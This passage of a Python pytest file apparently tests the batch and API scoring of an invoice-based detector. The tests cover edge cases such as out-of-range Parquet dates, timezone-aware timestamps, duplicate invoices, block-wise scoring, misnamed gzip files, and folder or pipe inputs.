    header_only = tmp_path / "header.csv"
    header_only.write_text(",".join(invoices.columns) + "\n")
    with pytest.raises(InputError, match="no data rows"):
        score_file(header_only, tiny_artifacts, out)
    assert out.read_bytes() == kept
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []


def test_parquet_dates_outside_python_s_range_are_rejected_rows(
    export: tuple[pd.DataFrame, pd.DataFrame], tiny_artifacts: ArtifactSet, tmp_path: Path
) -> None:
    _, invoices = export
    days = pd.to_datetime(invoices["invoice_date"]).to_numpy().astype("datetime64[D]")
    table = pa.Table.from_pandas(invoices, preserve_index=False)
    index = table.schema.get_field_index("invoice_date")
    for kind, far in (("date32", -1_000_000), ("date32", 3_000_000), ("date64", 10**15)):
        values = days.astype(np.int64)
        array = (
            pa.array(np.r_[values[:-1], far].astype(np.int32)).cast(pa.date32())
            if kind == "date32"
            else pa.array(np.r_[values[:-1] * 86_400_000, far]).cast(pa.date64())
        )
        path = tmp_path / f"{kind}-{far}.parquet"
        pq.write_table(table.set_column(index, "invoice_date", array), path)
        _results, rejects, summary = scored(path, tiny_artifacts, tmp_path)
        assert rejects is not None and len(rejects) == 1
        assert rejects["reason"].iloc[0].startswith("invalid invoice_date: outside")
        assert summary["clients_scored"] == invoices["client_id"].nunique()


def test_timezone_aware_timestamps_are_read_without_a_warning(
    export: tuple[pd.DataFrame, pd.DataFrame], tiny_artifacts: ArtifactSet, tmp_path: Path
) -> None:
    import warnings

    _, invoices = export
    aware = invoices.copy()
    aware["invoice_date"] = pd.to_datetime(aware["invoice_date"]).dt.tz_localize("Africa/Tunis")
    aware.to_parquet(tmp_path / "aware.parquet", index=False)
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        results, rejects, _ = scored(tmp_path / "aware.parquet", tiny_artifacts, tmp_path)
    clean, _, _ = scored(_write(invoices, tmp_path / "clean.csv"), tiny_artifacts, tmp_path)
    assert rejects is None
    pd.testing.assert_frame_equal(results, clean)


def test_an_invoice_exported_twice_counts_once(
    export: tuple[pd.DataFrame, pd.DataFrame], tiny_artifacts: ArtifactSet, tmp_path: Path
) -> None:
    from detector.schema import DUPLICATE_INVOICE

    _, invoices = export
    doubled = pd.concat([invoices, invoices.iloc[::3]], ignore_index=True)
    results, rejects, summary = scored(
        _write(doubled, tmp_path / "d.csv"), tiny_artifacts, tmp_path
    )
    clean, _, _ = scored(_write(invoices, tmp_path / "clean.csv"), tiny_artifacts, tmp_path)
    pd.testing.assert_frame_equal(results, clean)  # the scores of the file without the copies
    assert rejects is not None and set(rejects["reason"]) == {DUPLICATE_INVOICE}
    assert sorted(rejects["row"]) == list(range(len(invoices), len(doubled)))
    assert summary["rows_rejected"] == len(invoices.iloc[::3])
    # One value apart is another invoice, not a copy.
    near = pd.concat([invoices, invoices.iloc[:1].assign(consommation_level_1=1.0)])
    _, near_rejects, _ = scored(_write(near, tmp_path / "near.csv"), tiny_artifacts, tmp_path)
    assert near_rejects is None


def test_a_duplicated_invoice_in_a_request_is_a_422_naming_it(
    make_client: Any, export: tuple[pd.DataFrame, pd.DataFrame]
) -> None:
    from tests.test_api import post

    clients, invoices = export
    client_id = clients["client_id"].iloc[0]
    rows = invoices[invoices["client_id"] == client_id].to_dict("records")
    body = {"customer_id": client_id, "invoices": [*rows, rows[0]]}
    response = post(make_client(), "/api/predict", body)
    assert response.status_code == 422, response.text
    error = response.json()["error"]
    assert error["location"] == f"invoices[{len(rows)}]"
    assert "duplicate invoice" in error["message"]


def test_partitions_of_many_small_clients_are_scored_in_blocks(
    export: tuple[pd.DataFrame, pd.DataFrame],
    tiny_artifacts: ArtifactSet,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A partition holds rows, not clients: 400,000 one-invoice clients were scored at once
    (4.4 GB for a 90 MB file). Blocks of CLIENT_BLOCK clients give the same results."""
    import detector.batch as batch

    clients, invoices = export
    path = _write(invoices, tmp_path / "x.csv")
    clients_path = _write(clients, tmp_path / "cl.csv")
    whole, _whole_rejects, whole_summary = scored(path, tiny_artifacts, tmp_path, clients_path)
    monkeypatch.setattr(batch, "CLIENT_BLOCK", 7)
    blocks, _block_rejects, block_summary = scored(path, tiny_artifacts, tmp_path, clients_path)
    key = "client_id"
    pd.testing.assert_frame_equal(
        blocks.sort_values(key).reset_index(drop=True),
        whole.sort_values(key).reset_index(drop=True),
    )
    for name in ("clients_in", "clients_scored", "clients_rejected", "rows_rejected"):
        assert block_summary[name] == whole_summary[name]
    assert block_summary["drift"] == whole_summary["drift"]


def test_a_plain_csv_named_gz_is_read_by_its_bytes(
    export: tuple[pd.DataFrame, pd.DataFrame], tiny_artifacts: ArtifactSet, tmp_path: Path
) -> None:
    _, invoices = export
    clean = _write(invoices, tmp_path / "x.csv")
    misnamed = _write(invoices, tmp_path / "y.csv.gz", compression=None)  # plain bytes
    assert misnamed.read_bytes()[:2] != b"\x1f\x8b"
    want, _, _ = scored(clean, tiny_artifacts, tmp_path)
    got, _, summary = scored(misnamed, tiny_artifacts, tmp_path)
    pd.testing.assert_frame_equal(got, want)
    assert summary["input_gzip"] is False


@pytest.mark.parametrize(
    ("given", "message"), [("folder", "a folder, not a file"), ("fifo", "not a regular file")]
)
def test_a_folder_or_a_pipe_is_named_for_what_it_is(
    tmp_path: Path, given: str, message: str
) -> None:
    import os

    target = tmp_path / given
    if given == "folder":
        target.mkdir()
    else:
        os.mkfifo(target)
    done = ptd_score(str(target), "--out", str(tmp_path / "r.csv"), timeout=60)
    assert done.returncode == 2 and message in done.stderr
